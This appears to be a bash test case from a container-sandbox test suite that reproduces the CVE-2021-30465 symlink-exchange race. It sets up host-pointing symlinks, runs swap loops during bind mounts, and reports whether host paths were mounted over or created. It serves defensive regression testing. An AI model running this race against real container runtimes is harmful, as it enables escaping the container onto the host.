# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='CVE-2021-30465 and kin, while it runs: root inside swaps the place of a bind, and what is above it, for links to the host'
RIVALS=

outside() {
        find "$PREY/out" | sort
        awk -v out="$PREY/out" 'index($5, out) == 1 { print "mounted " $5 }' /proc/self/mountinfo
}

setup() {
        bring exchange
        mkdir -p "$PREY/out/deep" "$PREY/share" "$TREE/place/deep" "$TREE$PREY/out/deep"
        ln -s "../../../../../..$PREY/out" "$TREE/place.link"
        ln -s "/proc/1/root$PREY/out/deep" "$TREE/place/deep.link"
        outside >"$PREY/before"
}

attack() {
        # A place that is bound to cannot be swapped until it is free again.
        while :; do exchange / place; exchange /place deep; busybox sleep 0.01; done >/dev/null 2>&1 &
        while :; do exchange /place deep; busybox sleep 0.01; done >/dev/null 2>&1 &
        echo swapping
}

meanwhile() {
        local round place done=0
        rm -f "$SCRATCH/wrong"
        for round in $(seq 15); do
                for place in /place /place/deep /place/new; do
                        nbox bind --mkdir "$NAME" "$PREY/share" "$place" >>"$SCRATCH/verbs" 2>&1 || continue
                        done=$((done + 1))
                        outside | cmp -s "$PREY/before" - || outside >"$SCRATCH/wrong"
                        nbox unbind "$NAME" "$place" >>"$SCRATCH/verbs" 2>&1 || [ $? = 1 ] # what is mounted over by the next
                done
        done
        [ "$done" -ge 5 ] || echo "only $done were bound: $(tail -n 1 "$SCRATCH/verbs")" >"$SCRATCH/wrong"
        printed swapping || echo "nothing was swapped" >"$SCRATCH/wrong"
}

verdict() {
        outside | cmp -s "$PREY/before" - || outside >"$SCRATCH/wrong"
        if [ -s "$SCRATCH/wrong" ]; then works "$(paste -sd ' ' "$SCRATCH/wrong")"; else blocked "nothing of the host's is mounted over, or made"; fi
}

# By path.
control() {
        local swapper i
        rm -f "$SCRATCH/wrong"
        "$ATTACKS/exchange" "$TREE" place &
        swapper=$!
        for i in $(seq 2000); do
                [ -L "$TREE/place" ] || mkdir -p "$TREE/place/new" 2>/dev/null || continue
                outside | cmp -s "$PREY/before" - || break
        done
        kill "$swapper"
        wait "$swapper" 2>/dev/null || true
        verdict
}
